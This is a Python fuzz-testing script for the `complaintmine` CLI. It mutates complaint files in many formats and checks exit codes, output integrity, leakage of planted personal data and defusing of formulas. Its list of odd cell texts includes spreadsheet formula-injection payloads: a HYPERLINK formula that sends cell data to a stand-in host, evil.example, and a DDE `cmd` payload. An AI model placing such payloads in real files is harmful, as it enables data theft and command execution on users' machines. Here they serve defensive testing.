"""Fuzz `complaintmine classify` / `tokenize` / `report` with mutated input files, for a bounded time.

Each input starts as a small real export (rows of ``data/demo/complaints_demo.csv``) written as
CSV (UTF-8, UTF-8 with BOM, GBK), TSV, JSONL, Excel, Parquet or gzip-compressed CSV / JSONL, and
is then mutated:

* **structurally** (the frame is changed, then written): a cell replaced by a formula, a long
  text, an empty / blank / emoji / control-character / lone-surrogate text, a planted phone
  number or ID, a number or a JSON object; a column named like an output column (``cause``,
  ``error``, ``evidence``, ``text_norm`` ...), duplicated ids, extra or missing columns, keys of
  JSONL lines that change order or disappear after the first lines. The number and order of the
  rows that must come out are known.
* **as bytes** (after writing): bytes flipped, inserted (quotes, separators, CR, LF, NUL, BOMs,
  broken UTF-8), deleted, duplicated, the file truncated or two files spliced. Whether such a
  file is readable is not known; only how the run ends is judged.

Every input is run by ``complaintmine.cli.main`` in a child process (many per child); a child
that dies by a signal or hangs is a finding, and the rest of its batch is run in a new child.
The outcome must be:

* exit 0 with a readable output; for structural mutations, every input row in order with its
  id and every input column, no derived column holding a planted phone / ID number, and no CSV
  cell that a spreadsheet would run as a formula; or
* a documented exit code (3-9, 12, 13) with a ``complaintmine: error:`` message of a few lines
  that names the file, and no output file or temporary file left behind;

never a traceback, an internal error (exit 1), a crash, a hang or more than ``--max-rss-mb`` of
memory. Prints how many inputs were tried, the outcomes per mutation and the findings (each
one's input is kept in ``--keep``).

    python benchmarks/fuzz_inputs.py               # 10 minutes
    python benchmarks/fuzz_inputs.py --seconds 30
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import gzip
import io
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pandas as pd

from complaintmine.output import defuse_formula

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "data" / "demo" / "complaints_demo.csv"
HANG_SECONDS = 120  # one run on a dozen rows takes well under a second (report: a few seconds)
DOCUMENTED = {3, 4, 5, 6, 7, 8, 9, 12, 13}  # docs/errors.md: input, output and row problems
PLANTED = ["13912345678", "110101199003074514", "zhang.wei@example.com"]  # must never reach derived columns
INPUT_FORMATS = ["csv", "csv", "csv_bom", "csv_gbk", "tsv", "jsonl", "jsonl", "xlsx", "parquet", "csv.gz",
                 "jsonl.gz"]
OUTPUT_FORMATS = [".csv", ".csv", ".jsonl", ".parquet", ".xlsx", ".tsv"]
DERIVED = ("text_norm", "tokens", "evidence", "cause_evidence", "motive_evidence", "risk_evidence")

ODD_TEXTS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
    "\t=1+1", "\r=1+1", "'=1", "", "   ", "\u3000\u3000", "😡😡😡差评！！！", "送餐\x00太慢", "送餐\x07太慢\x1b[31m",
    "\ud800孤立代理", "a" * 5000, "差" * 40000, "送餐员\r\n态度\n差", "\"引号\"\"里\"面", "逗号,分号;制表\t符",
    "投诉电话 13912345678 还不接", "身份证110101199003074514被泄露", "邮箱 zhang.wei@example.com 收不到退款",
    "12345", "1e309", "NaN", "null", "None", "TRUE", "\ufeff带BOM的文字", "\u202e反向文字",
    "ｆｕｌｌ－ｗｉｄｔｈ１２３",
]
OUTPUT_NAMES = ["cause", "motive", "risk_level", "evidence", "error", "text_norm", "tokens", "cause_code",
                "row", "id", "text"]
INSERTS = [b'"', b",", b"\t", b"\n", b"\r", b"\r\n", b"\x00", b"\xef\xbb\xbf", b"\xff\xfe", b"\xe4\xbd",
           b"\xc4\xe3", b"\\", b"{", b"}", b"[", b"]", b":", b'"",""', b"\x1a", b"\x85", b"\xe2\x80\xa8"]


# -- inputs ----------------------------------------------------------------------------------------


def seed_frame(rng: random.Random, demo: pd.DataFrame) -> pd.DataFrame:
    n = rng.choice([1, 2, 5, 12, 12, 30])
    rows = demo.sample(n=n, random_state=rng.randrange(2**31)).reset_index(drop=True)
    return rows[rng.choice([["complaint_id", "text"], ["complaint_id", "date", "store", "channel", "text"],
                            list(rows.columns)])].copy()


def mutate_frame(frame: pd.DataFrame, rng: random.Random) -> tuple[pd.DataFrame, str, bool]:
    """One structural change; returns the frame, its name and whether ids stay unique."""
    kind = rng.choice(["cell", "cell", "cell", "pii", "outname", "dupid", "extracol", "numbers", "object", "none"])
    f = frame.copy()
    unique = True
    i = rng.randrange(len(f))
    if kind == "cell":
        f.loc[i, "text"] = rng.choice(ODD_TEXTS)
    elif kind == "pii":
        f.loc[i, "text"] += f"，我的电话{PLANTED[0]}，身份证{PLANTED[1]}，邮箱{PLANTED[2]}"
    elif kind == "outname":
        name = rng.choice(OUTPUT_NAMES)
        if name not in f.columns:
            f[name] = [rng.choice(ODD_TEXTS[:8] + ["A1", "x"]) for _ in range(len(f))]
    elif kind == "dupid" and len(f) > 1:
        f.loc[len(f) - 1, "complaint_id"] = f.loc[0, "complaint_id"]
        unique = False
    elif kind == "extracol":
        f[rng.choice(["备注", "", " ", "=cmd", "Unnamed: 0", "text ", "TEXT"])] = "x"
    elif kind == "numbers":
        f["amount"] = [rng.choice([1, -1.5, 1e308, float("nan"), float("inf"), 2**62]) for _ in range(len(f))]
    elif kind == "object":
        f["meta"] = [rng.choice([{"a": 1}, [1, 2], None, "s"]) for _ in range(len(f))]
    return f, kind, unique


def write_input(frame: pd.DataFrame, fmt: str, path: Path, rng: random.Random) -> str:
    """Write ``frame`` as ``fmt``; JSONL lines may change key order or lose keys (``jsonl_keys``)."""
    note = ""
    if fmt.startswith("jsonl"):
        lines = []
        records = frame.to_dict(orient="records")
        shuffle = rng.random() < 0.3
        for k, rec in enumerate(records):
            if shuffle and k > 0:
                items = list(rec.items())
                rng.shuffle(items)
                rec = dict(items)
                if rng.random() < 0.3:
                    rec.pop(rng.choice([c for c in rec if c not in ("text", "complaint_id")] or ["_"]), None)
            lines.append(json.dumps(rec, ensure_ascii=rng.random() < 0.5, default=str))
        data = ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")
        note = "+jsonl_keys" if shuffle else ""
        path.write_bytes(gzip.compress(data) if fmt.endswith(".gz") else data)
    elif fmt in ("xlsx", "parquet"):  # what these formats can hold: no lone surrogates, nested values as JSON
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        safe = pd.DataFrame(index=frame.index)
        for c in frame.columns:
            values = [json.dumps(v) if isinstance(v, (dict, list)) else v for v in frame[c]]
            values = [v.encode("utf-8", "replace").decode("utf-8") if isinstance(v, str) else v for v in values]
            if fmt == "xlsx":
                values = [ILLEGAL_CHARACTERS_RE.sub("", v)[:32000] if isinstance(v, str) else v for v in values]
            safe[c] = pd.Series(values, index=frame.index, dtype=object)
        safe.to_excel(path, index=False) if fmt == "xlsx" else safe.to_parquet(path, index=False)
    else:
        sep = "\t" if fmt == "tsv" else ","
        text = frame.to_csv(index=False, sep=sep, lineterminator=rng.choice(["\n", "\r\n"]))
        enc = {"csv_gbk": "gbk", "csv_bom": "utf-8-sig"}.get(fmt, "utf-8")
        data = text.encode(enc, "replace" if enc == "gbk" else "surrogatepass")
        path.write_bytes(gzip.compress(data) if fmt.endswith(".gz") else data)
    return note


def mutate_bytes(data: bytes, rng: random.Random, other: bytes) -> tuple[bytes, str]:
    b = bytearray(data)
    kind = rng.choice(["flip", "insert", "insert", "delete", "duplicate", "truncate", "splice"])
    if not b:
        return bytes(rng.choice(INSERTS)), "insert"
    i = rng.randrange(len(b))
    if kind == "flip":
        for _ in range(rng.choice([1, 1, 4, 16])):
            b[rng.randrange(len(b))] = rng.randrange(256)
    elif kind == "insert":
        for _ in range(rng.choice([1, 1, 3])):
            b[i:i] = rng.choice(INSERTS)
    elif kind == "delete":
        del b[i : i + rng.choice([1, 2, 10, 200])]
    elif kind == "duplicate":
        b[i:i] = b[i : i + rng.choice([1, 10, 100, 1000])] * rng.choice([1, 2, 50])
    elif kind == "truncate":
        del b[i:]
    else:
        b = b[:i] + bytearray(other[rng.randrange(len(other) or 1) :])
    return bytes(b), kind


def make_case(k: int, folder: Path, rng: random.Random, demo: pd.DataFrame) -> dict[str, Any]:
    frame = seed_frame(rng, demo)
    frame, kind, unique = mutate_frame(frame, rng)
    fmt = rng.choice(INPUT_FORMATS)
    ext = {"csv_bom": "csv", "csv_gbk": "csv"}.get(fmt, fmt)
    path = folder / f"in{k}.{ext}"
    kind = f"{fmt}:{kind}" + write_input(frame, fmt, path, rng)
    structural = True
    if rng.random() < 0.4:
        data = path.read_bytes()
        data, how = mutate_bytes(data, rng, DEMO.read_bytes()[: 20_000])
        path.write_bytes(data)
        kind += f"+bytes_{how}"
        structural = False
    command = rng.choices(["classify", "tokenize", "report"], weights=[80, 15, 5])[0]
    out = folder / f"out{k}{'.html' if command == 'report' else rng.choice(OUTPUT_FORMATS)}"
    argv = [command, str(path), "-o", str(out)]
    if command == "classify":
        argv += ["--jobs", "1", "--quiet"] if rng.random() < 0.9 else ["--jobs", "1", "--quiet", "--mask-input"]
    elif command == "tokenize":
        argv += ["--quiet"]
    if rng.random() < 0.2:
        argv += ["--chunksize", str(rng.choice([1, 2, 7]))]
    if not unique and rng.random() < 0.5 and command != "report":
        argv += ["--allow-duplicate-ids"]
        unique = True
    if command == "report" and "--chunksize" in argv:
        i = argv.index("--chunksize")
        del argv[i : i + 2]
    return {"n": k, "argv": argv, "input": str(path), "output": str(out), "kind": kind, "command": command,
            "structural": structural and unique, "rows": len(frame),
            "ids": [str(x) for x in frame["complaint_id"]], "columns": [str(c) for c in frame.columns]}


# -- the child: run each case with the CLI's main, in one process --------------------------------------


def child(folder: str) -> int:
    """Run every case of ``folder/todo``; write one JSON line per case to ``folder/results``
    (``start`` first, so that a crash names its case)."""
    from complaintmine.cli import main

    cases = [json.loads(x) for x in (Path(folder) / "todo").read_text(encoding="utf-8").splitlines()]
    with open(Path(folder) / "results", "a", encoding="utf-8") as log:
        for case in cases:
            log.write(json.dumps({"start": case["n"]}) + "\n")
            log.flush()
            err = io.StringIO()
            t0 = time.monotonic()
            with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
                try:
                    code = main(case["argv"])
                except SystemExit as stop:  # main never exits; if it did, that is a finding
                    code = f"SystemExit({stop.code})"
            rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
            problem = judge(case, code, err.getvalue())
            log.write(json.dumps({"n": case["n"], "code": code, "stderr": err.getvalue()[:2000], "problem": problem,
                                  "seconds": round(time.monotonic() - t0, 2), "rss_mb": rss}, ensure_ascii=False,
                                 default=str) + "\n")
            log.flush()
            for p in Path(folder).glob(f"*{case['n']}*"):
                if p.name.startswith(("out", ".out")):
                    p.unlink(missing_ok=True)
    return 0


def read_output(path: Path) -> pd.DataFrame:
    suffix = path.suffix
    if suffix == ".csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    if suffix == ".tsv":
        return pd.read_csv(path, dtype=str, keep_default_na=False, sep="\t", encoding="utf-8-sig", quoting=0)
    if suffix == ".jsonl":
        with open(path, encoding="utf-8") as fh:
            return pd.DataFrame([json.loads(line) for line in fh]).astype(str)
    if suffix == ".parquet":
        return pd.read_parquet(path).astype(str)
    return pd.read_excel(path, dtype=str, keep_default_na=False)


def judge(case: dict[str, Any], code: Any, err: str) -> str | None:
    """What is wrong with one run, or None."""
    out = Path(case["output"])
    leftovers = [p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}")
                 or (p.name.startswith(out.name) and p.name != out.name)]
    if "Traceback" in err:
        return "traceback"
    if leftovers:
        return f"temporary files left: {leftovers}"
    if code == 0:
        if not out.exists():
            return "exit 0 but no output"
        if case["command"] == "report":
            return None
        try:
            frame = read_output(out)
        except Exception as e:  # the output must be readable by the usual readers
            return f"unreadable output: {type(e).__name__}: {str(e)[:200]}"
        if out.suffix == ".csv":
            with open(out, encoding="utf-8-sig", newline="") as fh:
                for row in csv.reader(fh):
                    bad = [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
                    if bad:
                        return f"formula cell in the CSV output: {bad[0][:60]!r}"
        for col in frame.columns:
            if str(col).startswith(DERIVED):
                hits = [p for p in PLANTED if frame[col].str.contains(p, regex=False).any()]
                if hits:
                    return f"personal data {hits[0]} in derived column {col!r}"
        if case["structural"]:
            if len(frame) != case["rows"]:
                return f"exit 0 with {len(frame)} rows, the input has {case['rows']}"
            # CSV / TSV headers are defused too; a header cell like =cmd in a workbook is a formula
            # with no value, which Excel readers give as empty (Unnamed: N)
            missing = [c for c in case["columns"] if c.strip() and c not in frame.columns
                       and defuse_formula(c) not in frame.columns
                       and not (case["kind"].startswith("xlsx") and c.startswith("="))]
            if missing:
                return f"input column(s) lost: {missing}"
            got = frame["complaint_id"].tolist() if "complaint_id" in frame.columns else None
            if got is not None and [g.removesuffix(".0") for g in got] != case["ids"]:
                return "ids changed or out of order"
        return None
    if code == 1:
        return f"internal error: {err.strip()[:300]}"
    if code not in DOCUMENTED:
        return f"exit {code}: {err.strip()[:300]}"
    if out.exists():
        return f"exit {code} but the output was written"
    lines = [x for x in err.splitlines() if x.strip() and not x.startswith("complaintmine: warning:")]
    if not lines or not lines[0].startswith("complaintmine: error: ") or len(lines) > 2 or len(err) > 3000:
        return f"exit {code}, bad message: {err[:300]!r}"
    if code != 13 and Path(case["input"]).name not in lines[0] and out.name not in lines[0]:
        return f"exit {code}, message does not name the file: {lines[0][:200]!r}"
    return None


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def run_batch(folder: Path, cases: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Run ``cases`` in a child; a crash or hang is reported for the case it was on and the rest
    are run again in a new child."""
    results: list[dict[str, Any]] = []
    todo = list(cases)
    while todo:
        (folder / "todo").write_text("\n".join(json.dumps(c, ensure_ascii=False) for c in todo), encoding="utf-8")
        (folder / "results").unlink(missing_ok=True)
        try:
            proc = subprocess.run([sys.executable, __file__, "--child", str(folder)], capture_output=True,
                                  timeout=HANG_SECONDS * len(todo), text=True)
            status: Any = proc.returncode
        except subprocess.TimeoutExpired:
            status = "hang"
        lines = ([json.loads(x) for x in (folder / "results").read_text(encoding="utf-8").splitlines()]
                 if (folder / "results").exists() else [])
        done = [x for x in lines if "code" in x]
        results.extend(done)
        if status == 0 and len(done) == len(todo):
            break
        started = [x["start"] for x in lines if "start" in x]
        culprit = started[-1] if len(started) > len(done) else None
        if culprit is None:
            results.append({"n": todo[len(done)]["n"] if len(done) < len(todo) else -1, "code": status,
                            "stderr": proc.stderr[-500:] if status != "hang" else "", "rss_mb": 0,
                            "problem": f"child ended with {status} outside a case"})
            break
        what = "hang" if status == "hang" else f"crash (return code {status})"
        results.append({"n": culprit, "code": status, "stderr": "", "problem": what, "rss_mb": 0})
        todo = [c for c in todo if c["n"] > culprit]
    return results


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seconds", type=float, default=600, help="time to fuzz for (default 600)")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--batch", type=int, default=40, help="inputs per child process")
    parser.add_argument("--max-rss-mb", type=int, default=1500, help="peak memory of a child that is a finding")
    parser.add_argument("--keep", default="fuzz_findings", help="folder for the inputs of findings")
    parser.add_argument("--child", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.child:
        return child(args.child)
    demo = pd.read_csv(DEMO, dtype=object, keep_default_na=False)
    rng = random.Random(args.seed)
    started = time.monotonic()
    end = started + args.seconds
    tried, outcomes, findings, peak = 0, Counter(), [], 0
    with tempfile.TemporaryDirectory(prefix="cm_fuzz_in_") as tmp:
        folder = Path(tmp)
        while time.monotonic() < end:
            cases = [make_case(tried + i, folder, rng, demo) for i in range(args.batch)]
            by_n = {c["n"]: c for c in cases}
            for r in run_batch(folder, cases):
                tried += 1
                case = by_n.get(r["n"], {"kind": "?", "input": "", "argv": []})
                outcomes[(case["kind"].split(":")[0], case["kind"].split(":")[-1].split("+")[0], r["code"])] += 1
                peak = max(peak, r.get("rss_mb", 0))
                problem = r["problem"] or (f"peak memory {r['rss_mb']} MB" if r.get("rss_mb", 0) > args.max_rss_mb
                                           else None)
                if problem:
                    os.makedirs(args.keep, exist_ok=True)
                    kept = Path(args.keep) / Path(case["input"]).name if case["input"] else None
                    if kept and Path(case["input"]).exists():
                        shutil.copy(case["input"], kept)
                    findings.append((case["kind"], problem))
                    print(f"FINDING {case['kind']} {' '.join(case['argv'][:1] + case['argv'][3:])}: {problem} "
                          f"({kept})", flush=True)
            for c in cases:
                Path(c["input"]).unlink(missing_ok=True)
    seconds = time.monotonic() - started
    print(f"\ntried {tried} mutated inputs in {seconds:.0f} s ({tried / seconds:.1f} per second); peak child "
          f"memory {peak} MB; findings: {len(findings)}")
    codes = Counter()
    for (_fmt, _kind, code), n in outcomes.items():
        codes[code] += n
    print("exit codes: " + ", ".join(f"{c}: {n}" for c, n in sorted(codes.items(), key=str)))
    by_fmt: dict[str, Counter] = {}
    for (fmt, _kind, code), n in outcomes.items():
        by_fmt.setdefault(fmt, Counter())[code] += n
    print("by input format (exit code: count):")
    for fmt in sorted(by_fmt):
        print(f"  {fmt:9s} {sum(by_fmt[fmt].values()):5d}   "
              + ", ".join(f"{c}: {n}" for c, n in sorted(by_fmt[fmt].items(), key=str)))
    return 1 if findings else 0


if __name__ == "__main__":
    sys.exit(main())
